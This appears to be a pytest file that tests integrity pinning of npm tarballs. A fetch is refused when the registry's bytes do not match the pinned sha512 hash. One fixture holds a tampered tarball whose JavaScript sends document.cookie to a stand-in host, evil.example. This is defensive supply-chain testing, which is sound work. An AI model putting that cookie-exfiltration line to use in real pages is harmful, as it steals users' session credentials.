"""Fetching the Data Docs' pinned npm packages: a tarball is used only when its sha512 is the pinned one, so a
registry (or a proxy) serving other bytes under the same name and version stops the fetch, naming the package."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import tarfile
from pathlib import Path

import pytest

from jobs.local.data_docs_assets import DataDocsAssetsError, _pack, _unpack
from jobs.pipeline.data_docs_assets import NpmPackage


def tarball(contents: bytes) -> bytes:
    """An npm-style package tarball with one file, package/dist/lib.js."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        info = tarfile.TarInfo("package/dist/lib.js")
        info.size = len(contents)
        archive.addfile(info, io.BytesIO(contents))
    return buffer.getvalue()


def integrity(data: bytes) -> str:
    return "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()


def fake_npm(tmp_path: Path, served: bytes) -> str:
    """An `npm` that answers `npm pack --json ... --pack-destination DIR SPEC` by writing ``served`` into DIR.

    A fake on purpose: the real registry serves the real tarball, and the point is bytes it would never serve."""
    (tmp_path / "served.tgz").write_bytes(served)
    script = tmp_path / "npm"
    script.write_text(
        "#!/bin/sh\n"
        'while [ "$1" != "--pack-destination" ]; do shift; done\n'
        f'cp {tmp_path / "served.tgz"} "$2/lib-1.0.0.tgz"\n'
        f"echo '{json.dumps([{'filename': 'lib-1.0.0.tgz'}])}'\n"
    )
    script.chmod(0o755)
    return str(script)


def test_the_pinned_tarball_is_taken(tmp_path: Path) -> None:
    good = tarball(b"console.log('pinned');")
    package = NpmPackage("lib", "1.0.0", integrity(good), ("dist/lib.js",))
    (tmp_path / "into").mkdir()
    packed = _pack(fake_npm(tmp_path, good), package, tmp_path / "into")
    _unpack(packed, package, tmp_path / "out")
    assert (tmp_path / "out" / "dist" / "lib.js").read_bytes() == b"console.log('pinned');"


def test_a_tarball_with_other_bytes_under_the_pinned_name_is_refused(tmp_path: Path) -> None:
    good, tampered = tarball(b"console.log('pinned');"), tarball(b"fetch('https://evil.example/'+document.cookie);")
    package = NpmPackage("lib", "1.0.0", integrity(good), ("dist/lib.js",))
    (tmp_path / "into").mkdir()
    with pytest.raises(DataDocsAssetsError, match=r"lib@1\.0\.0: the registry's tarball has sha512-.*expected sha512-"):
        _pack(fake_npm(tmp_path, tampered), package, tmp_path / "into")
